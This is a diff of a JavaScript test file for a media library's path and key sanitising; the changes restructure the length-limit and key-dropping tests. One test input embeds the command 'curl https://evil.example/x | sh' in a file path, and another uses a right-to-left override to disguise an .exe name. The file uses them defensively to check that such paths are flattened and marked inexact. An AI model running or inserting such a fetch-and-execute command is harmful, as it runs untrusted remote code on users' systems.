@@ -84,22 +84,25 @@ describe('texts of an item', () => {
   test.each([
     ['/data/films/a.mkv\ncurl https://evil.example/x | sh\n', '/data/films/a.mkv curl https://evil.example/x | sh '],
     ['/data/Film\u202evkm.exe', '/data/Filmvkm.exe'],
-    [`/data/${'x'.repeat(3_000)}`, `/data/${'x'.repeat(1_994)}`],
     ['/data/\ud800.mkv', '/data/.mkv'],
   ])('the path %j is shown, but is not exact', (file, shown) => {
     expect(readPart({ file })).toMatchObject({ file: shown, fileIsExact: false });
+  });
+
+  test('a path of more than 2,000 characters is cut, and is not exact', () => {
+    const file = `/data/${'x'.repeat(3_000)}`;
+    expect(readPart({ file })).toMatchObject({ file: file.slice(0, 2_000), fileIsExact: false });
   });
 
   test.each(['/data/films/Léon – 殺し屋 (1994).mkv', 'D:\\films\\a  b .mkv', ''])('the path %j is exact', (file) => {
     expect(readPart({ file })).toMatchObject({ file, fileIsExact: true });
   });
 
-  test.each(['/library/parts/1\n', `/library/parts/${'x'.repeat(2_000)}`, ''])(
-    'a part with the key %j is dropped',
-    (key) => {
+  test('a part is dropped if its key is empty, too long or not in one line', () => {
+    for (const key of ['/library/parts/1\n', `/library/parts/${'x'.repeat(2_000)}`, '']) {
       expect(readPart({ key })).toBeUndefined();
-    },
-  );
+    }
+  });
 
   test('a key that cannot be used is replaced by the one of the rating key', () => {
     expect(read({ key: '/library/metadata/7\n' }).key).toBe('/library/metadata/7');
